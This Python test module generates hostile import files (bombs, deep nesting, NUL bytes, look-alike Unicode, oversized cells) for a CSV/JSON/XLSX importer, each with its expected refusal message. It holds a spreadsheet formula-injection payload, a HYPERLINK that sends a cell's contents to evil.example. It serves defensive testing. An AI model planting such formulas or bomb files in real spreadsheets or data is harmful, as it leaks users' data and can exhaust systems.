"""The bad-input corpus (issue 11, "Done when"): every hostile case of the issue, in every format it can take.

Each :class:`Case` writes one file and says what must come of it: refused
(with words of the refusal: nothing is written), or imported with its bad
rows refused (how many rows land, how many fail, words of the reason). Every
good row of a case names an item of its own (``<case> Shirt``), so what a
case wrote is found by name. A case a format cannot express is left out (an
XLSX cell cannot hold a NUL: XML has no such character).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.imports.hostile import bombs
from tests.imports.hostile.files import as_format

HEADER = ("item_name", "description", "color_name", "size_name", "price")
MiB = 1024 * 1024
LONG_HEADER = "P" * 300
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")'


@dataclass(frozen=True)
class Case:
    name: str
    file_format: str
    write: Callable[[Path], Path]
    #: Words of the refusal when the whole file is refused; None when it is imported.
    refused: str | None = None
    #: Rows that land, rows refused, and words of a refused row's reason.
    good: int = 0
    failed: int = 0
    reason: str = ""
    #: The mapping the file is read with (header -> field), given to both doors.
    mapping: dict[str, str] = field(default_factory=dict)
    #: How the items its good rows create are named (by default, after the case).
    item_prefix: str = ""

    @property
    def slug(self) -> str:
        return slug(self.name)

    @property
    def items(self) -> str:
        """The prefix of the item names this case's good rows create."""
        return self.item_prefix or f"{self.slug} "

    def file_name(self) -> str:
        return f"{self.slug}.{self.file_format}"


def slug(name: str) -> str:
    return "-".join("".join(ch if ch.isalnum() else " " for ch in name.lower()).split())


def _rows_file(file_format: str, header, rows) -> Callable[[Path], Path]:
    def write(path: Path) -> Path:
        path.write_bytes(as_format(file_format, header, rows))
        return path

    return write


def _good(case: str, count: int = 2) -> list[tuple]:
    return [(f"{case} Shirt", "Soft", "Red", size, "1.00") for size in ("S", "M", "L")[:count]]


def _partial(name: str, file_format: str, bad_row: tuple, reason: str, *, header=HEADER, fill=(), **extra) -> Case:
    """A case with two good rows (items of its own) around one bad row."""
    good = [(*row, *fill) for row in _good(slug(name))]
    return Case(
        name=name,
        file_format=file_format,
        write=_rows_file(file_format, header, [good[0], bad_row, good[1]]),
        good=2,
        failed=1,
        reason=reason,
        **extra,
    )


def _raw(data: bytes) -> Callable[[Path], Path]:
    def write(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return write


def _jsonl_long_line(path: Path) -> Path:
    row = b'{"item_name": "Shirt", "color_name": "Red", "size_name": "M", "description": "'
    path.write_bytes(row + b"a" * (50 * MiB) + b'"}\n')
    return path


def _json_whitespace(path: Path) -> Path:
    with path.open("wb") as out:
        out.write(b'[{"item_name": "Shirt", "color_name": "Red", "size_name": "M"}')
        out.write(b" " * (50 * MiB))
        out.write(b"]")
    return path


def _jsonl_whitespace(path: Path) -> Path:
    path.write_bytes(b'{"item_name": "Shirt", "color_name": "Red", "size_name": "M"}\n' + b" " * (50 * MiB) + b"\n")
    return path


def _csv_whitespace(path: Path) -> Path:
    with path.open("wb") as out:
        out.write(b"item_name,color_name,size_name\nShirt,Red,M\nShirt,")
        out.write(b" " * (50 * MiB))
        out.write(b",L\n")
    return path


def _wide(file_format: str) -> Callable[[Path], Path]:
    header = [f"column {n}" for n in range(16_385)]
    return _rows_file(file_format, header, [["x"] * len(header)])


def cases() -> list[Case]:
    """Every case, each in every format that can express it."""
    found: list[Case] = []
    deep_text = "[" * 100_000 + "]" * 100_000
    found += [
        # --- depth (item 1) ---
        Case("json nested 100,000 deep", "json", bombs.json_deep, refused="nest more than 32 levels deep"),
        Case("json row nested 20,000 deep", "json", bombs.json_deep_in_a_row, refused="nest more than 32 levels"),
        Case(
            "json lines line nested 100,000 deep",
            "jsonl",
            bombs.jsonl_deep_line,
            good=2,
            failed=1,
            reason="more than 32 levels deep",
            item_prefix="Shirt",
        ),
        *(
            _partial(
                f"brackets 200,000 deep as text {fmt}",
                fmt,
                ("Shirt", "Soft", "Red", "XL", deep_text),
                "price is not a number",
            )
            for fmt in ("csv", "xlsx")
        ),
        # --- a cell past the field limit (item 1, and the 50 MB unquoted cell) ---
        Case("csv 50 MB unquoted cell", "csv", bombs.csv_long_cell, refused="longer than the field limit"),
        Case(
            "csv 50 MB quoted cell",
            "csv",
            lambda path: bombs.csv_long_cell(path, quoted=True),
            refused="longer than the field limit",
        ),
        Case("json 90 MB description", "json", bombs.json_long_string, refused="longer than the field limit"),
        Case("json lines 50 MB cell", "jsonl", _jsonl_long_line, refused="longer than the field limit"),
        Case("xlsx 1 GiB cell", "xlsx", bombs.xlsx_one_huge_cell, refused="a sheet may inflate to at most 512 MB"),
        # --- whitespace (item 1) ---
        Case("xlsx 2 GiB whitespace", "xlsx", bombs.xlsx_whitespace, refused="a sheet may inflate to at most 512 MB"),
        Case("csv 50 MB whitespace cell", "csv", _csv_whitespace, refused="longer than the field limit"),
        Case("json 50 MB whitespace", "json", _json_whitespace, refused="longer than the field limit"),
        Case("json lines 50 MB whitespace", "jsonl", _jsonl_whitespace, refused="longer than the field limit"),
        # --- XLSX parts (item 1) ---
        Case(
            "xlsx 1 GiB shared strings",
            "xlsx",
            bombs.xlsx_shared_strings,
            refused="the shared strings table may inflate to at most 64 MB",
        ),
        Case("xlsx more rows than excel", "xlsx", bombs.xlsx_many_rows, refused="holds more than 1,048,576 rows"),
        Case("xlsx entity expansion", "xlsx", bombs.xlsx_entity_expansion, refused="holds a DTD"),
        Case("xlsx 20,000 parts", "xlsx", bombs.xlsx_many_parts, refused="a workbook may hold at most 10,000"),
        # --- quoting ---
        Case(
            "csv quote never closed",
            "csv",
            bombs.csv_quote_never_closed,
            refused="a quoted field is never closed",
        ),
        # --- more columns than a sheet ---
        Case("csv 16,385 columns", "csv", _wide("csv"), refused="a file may have at most 16,384"),
        Case("json 16,385 keys", "json", _wide("json"), refused="more than 16,384 keys"),
        Case("json lines 16,385 keys", "jsonl", _wide("jsonl"), refused="more than 16,384 different keys"),
        Case("xlsx 16,385 columns", "xlsx", _wide("xlsx"), refused="a file may have at most 16,384"),
    ]
    for fmt in ("csv", "json", "jsonl"):
        # --- NUL and other characters PostgreSQL cannot store (item 2); XML has no NUL ---
        found.append(_partial(f"nul in a cell {fmt}", fmt, ("Sh\x00irt", "Soft", "Red", "XL", "1"), "U+0000"))
        found.append(
            _partial(
                f"nul in an ignored column {fmt}",
                fmt,
                ("Shirt", "Soft", "Red", "XL", "-1", "a\x00b"),
                "price must be 0 or more",
                header=(*HEADER, "note"),
                fill=("",),
            )
        )
        found.append(
            _partial(
                f"nul in a header {fmt}",
                fmt,
                ("Shirt", "Soft", "Red", "XL", "-1", "y"),
                "price must be 0 or more",
                header=(*HEADER, "no\x00te"),
                fill=("",),
            )
        )
    for fmt in ("json", "jsonl"):
        found.append(
            _partial(f"half a surrogate pair {fmt}", fmt, ("Shirt", "Soft", "Red", "X\ud800L", "1"), "surrogate pair")
        )
    for fmt in ("csv", "json", "jsonl", "xlsx"):
        found += [
            # --- a header longer than 255 characters on a failed cell (item 2) ---
            _partial(
                f"header of 300 characters {fmt}",
                fmt,
                ("Shirt", "Soft", "Red", "XL", "-1"),
                f"{LONG_HEADER} must be 0 or more",
                header=(*HEADER[:4], LONG_HEADER),
                mapping={LONG_HEADER: "price"},
            ),
            # --- formula injection through a header (item 3) ---
            _partial(
                f"formula header {fmt}",
                fmt,
                ("Shirt", "Soft", "Red", "XL", "-1", "@SUM(1)"),
                "price must be 0 or more",
                header=(*HEADER, EVIL),
                fill=("=1+1",),
            ),
            # --- unbounded text (item 7) ---
            _partial(
                f"description of 10,001 characters {fmt}",
                fmt,
                ("Shirt", "d" * 10_001, "Red", "XL", "1"),
                "description is longer than 10,000 characters",
            ),
            # --- look-alike keys (item 10): a Cyrillic e (U+0435) in a color the file also creates ---
            _partial(
                f"look-alike color {fmt}",
                fmt,
                ("Shirt", "Soft", "R\u0435d", "XL", "1"),
                "looks like",
            ),
        ]
    return found


def write_all(folder: Path) -> list[tuple[Case, Path]]:
    """Write every case's file into ``folder``; the partial cases' good rows name their own items."""
    written = []
    for case in cases():
        path = folder / case.file_name()
        case.write(path)
        written.append((case, path))
    return written


def mapping_field(case: Case) -> list[str]:
    return [f"mapping={json.dumps(case.mapping)}"] if case.mapping else []


def map_args(case: Case) -> list[str]:
    return [arg for header, field_name in case.mapping.items() for arg in ("--map", f"{header}={field_name}")]
